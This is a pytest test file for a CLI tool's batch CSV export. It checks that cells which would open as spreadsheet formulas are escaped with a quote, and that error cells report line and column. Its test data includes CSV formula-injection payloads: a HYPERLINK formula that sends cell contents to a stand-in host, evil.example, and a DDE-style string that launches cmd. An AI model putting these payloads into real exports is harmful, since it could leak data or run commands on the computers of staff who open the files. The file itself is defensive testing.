"""`batch`'s CSV output is opened in spreadsheets by HR staff: a cell that would open as a
formula (an id such as `=HYPERLINK(...)`) opens with a `'` so nothing runs, and a row's
error cell says where each problem is, one or several. Regressions: such ids were written
as given; a row with a single problem had its message alone, with no `line:col`, though
its row number is not the line it starts on where a cell spans lines."""
from __future__ import annotations

import csv
import io
import json

import pytest
from click.testing import CliRunner

from pathfit.cli.main import cli

IDS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "@SUM(1,1)", "-2+3", "\t=1+1",
       "plain", "it's-fine"]


def _batch(tmp_path, name: str, text: str, out: str):
    (tmp_path / name).write_text(text)
    return CliRunner().invoke(cli, ["batch", str(tmp_path / name), "--out", str(tmp_path / out), "--jobs", "1",
                                    "--quiet"])


def test_cells_that_would_open_as_formulas_are_opened_with_a_quote(tmp_path):
    rows = "".join(json.dumps({"id": i, "needs": ["performance"]}) + "\n" for i in IDS)
    result = _batch(tmp_path, "in.jsonl", rows, "out.csv")
    assert result.exit_code == 0, result.output
    ids = [r["id"] for r in csv.DictReader(io.StringIO((tmp_path / "out.csv").read_text()))]
    assert ids == ["'" + i for i in IDS[:5]] + IDS[5:]
    again = _batch(tmp_path, "in.jsonl", rows, "out.jsonl")  # for programs: as given
    assert again.exit_code == 0
    assert [json.loads(line)["id"] for line in (tmp_path / "out.jsonl").read_text().splitlines()] == IDS


@pytest.mark.parametrize("rows, expected", [
    ('id,hours_per_month\nr1,"1\n"\nr2,-1\n', "4:4: PF404: "),  # one problem, on line 4 though it is row 2
    ("id,hours_per_month,goal_clarity\nr1,-1,specfic\n", "2:"),
])
def test_the_error_cell_says_where_a_single_problem_is(tmp_path, rows, expected):
    _batch(tmp_path, "in.csv", rows, "out.csv")
    last = list(csv.DictReader(io.StringIO((tmp_path / "out.csv").read_text())))[-1]
    assert last["error"].startswith(expected), last["error"]
